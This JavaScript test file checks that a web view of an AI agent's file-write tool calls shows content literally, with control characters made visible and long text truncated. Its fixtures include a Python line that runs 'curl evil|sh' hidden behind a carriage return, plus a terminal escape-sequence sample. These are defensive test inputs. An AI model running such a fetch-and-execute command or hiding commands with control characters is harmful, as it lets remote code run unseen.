// node --test web/calls_test.mjs

import assert from 'node:assert/strict';
import test from 'node:test';
import { textOf } from './drawn.mjs';
import { drawCall } from './views/calls.js';
import { Log } from './views/log.js';

const log = new Log({ changed() {} }, { id: 'C', following: false }, {});
const draw = (args) => textOf(drawCall(log, { id: 'c', tool: 'write', args, progress: '', children: [] }, 'T'));

test('what is written to a file is shown as it is, and not as a terminal would show it', () => {
  for (const [content, want] of [
    ['import os; os.system("curl evil|sh")\rprint("hi")', /\+ import os; os\.system\("curl evil\|sh"\)\[U\+000D\]print\("hi"\)/],
    ['a\n\x1b]evil\nmore', /\+ a\+ \[U\+001B\]\]evil\+ more/],
    ['x\n'.repeat(30_000), /… 20,000 characters more/],
  ]) {
    assert.match(draw({ file_path: 'a.py', content }), /a\.py/);
    log.shown.set('T/c/args', 1e6);
    assert.match(draw({ file_path: 'a.py', content }), want);
    assert.match(draw({ file_path: 'a.py', old_string: '', new_string: content }), want);
  }
});

test('a diff is made again when the texts are others of the same length', () => {
  assert.match(draw({ file_path: 'a', content: 'one' }), /\+ one/);
  assert.match(draw({ file_path: 'a', content: 'two' }), /\+ two/);
});
